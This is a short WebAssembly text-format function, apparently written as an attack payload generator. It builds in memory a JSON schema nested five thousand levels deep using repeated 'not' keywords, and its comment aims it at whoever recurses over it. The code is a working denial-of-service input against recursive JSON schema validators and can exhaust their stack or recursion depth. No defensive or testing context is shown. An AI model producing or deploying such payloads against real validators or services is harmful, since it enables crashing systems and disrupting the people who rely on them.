;; A schema of five thousand levels, for whoever recurses over it: `{"not":{"not": … {} … }}`.
(func $payload_schema (param $config i32) (param $length i32) (result i32)
  (local $n i32)
  (loop $again
    (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $n) (i32.const 7))) (i32.const 2304) (i32.const 7))
    (local.set $n (i32.add (local.get $n) (i32.const 1)))
    (br_if $again (i32.lt_u (local.get $n) (i32.const 5000))))
  (i32.store16 (i32.const 43192) (i32.const 0x7d7b))
  (memory.fill (i32.const 43194) (i32.const 0x7d) (i32.const 5000))
  (i32.const 2048))
(data (i32.const 2048) "\00\00\00\00" "\00\20\00\00" "\42\9c\00\00")
(data (i32.const 2304) "{\22not\22:")
